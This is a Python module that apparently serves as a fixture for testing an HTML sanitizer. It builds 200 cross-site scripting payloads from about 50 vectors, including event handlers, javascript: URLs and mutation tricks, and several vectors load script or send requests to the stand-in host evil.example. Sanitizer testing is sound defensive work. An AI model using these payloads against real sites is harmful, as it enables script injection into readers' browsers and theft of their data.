"""What somebody would write into an article to run a script in its reader's browser: 200 of it."""

from __future__ import annotations

from itertools import product

_VECTORS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/p.png>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=//evil.example/x.svg#a></use></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=//evil.example></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java&#10;script:alert(1)">x</a>',
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/p.png)}</style>",
    "<p style=background:url(//evil.example/p.png)>x</p>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{7*7}}{% raw %}<script>alert(1)</script>",
    "{{ ''.__class__.__mro__ }}",
    "javascript:alert(1)",
    "\u2028<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<x onclick=alert(1) tabindex=0 onfocus=alert(1) autofocus>x</x>",
    "<select><option><script>alert(1)</script></option></select>",
    "<table background=//evil.example/p.png><tr><td>x</td></tr></table>",
    "<img srcset='//evil.example/a.png 1x'>",
]
#: What ends the place that a payload stands in: none, an attribute of either sort, a title.
_BEFORE = ("", '">', "'>", "</title></textarea></script></style>-->")

PAYLOADS = [before + vector for before, vector in product(_BEFORE, _VECTORS)]
